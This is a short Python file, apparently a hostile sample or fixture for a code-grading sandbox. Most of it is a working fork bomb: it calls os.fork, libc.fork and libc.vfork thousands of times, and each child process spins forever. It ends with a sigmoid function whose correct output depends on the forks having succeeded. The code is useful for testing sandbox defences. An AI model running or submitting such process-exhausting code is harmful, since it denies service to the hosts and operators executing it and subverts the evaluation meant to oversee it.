"""Fork without end, by every call that makes a process."""

# deserves: 0
import ctypes
import os

made = 0
libc = ctypes.CDLL(None, use_errno=True)
for _ in range(2000):
    for call in (os.fork, libc.fork, libc.vfork):
        try:
            pid = call()
        except OSError:
            continue
        if pid == 0:
            while True:
                pass
        made += pid > 0


def sigmoid(z):
    import numpy as np

    return 1 / (1 + np.exp(-z)) if made else z * 0
